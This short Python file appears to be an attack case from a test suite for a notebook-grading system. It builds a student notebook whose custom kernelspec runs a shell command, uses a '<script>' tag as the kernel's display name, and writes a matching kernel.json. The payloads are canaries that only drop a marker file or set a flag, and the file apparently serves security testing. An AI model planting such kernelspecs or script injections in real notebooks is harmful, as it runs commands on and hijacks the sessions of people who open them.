"""A command of the student's: the notebook names a kernel of its own, with what to start for it."""


def attack(notebook, folder):
    command = ["/bin/sh", "-c", "touch hw1_attack_was_here; sleep 1000", "{connection_file}"]
    notebook["metadata"]["kernelspec"] = {"name": "evil", "display_name": "<script>window.hw1_owned = true</script>", "language": "bash", "argv": command}
    kernel = folder / "kernels" / "evil"
    kernel.mkdir(parents=True)
    (kernel / "kernel.json").write_text('{"argv": ["/bin/sh", "-c", "touch hw1_attack_was_here"], "display_name": "evil", "language": "bash"}')
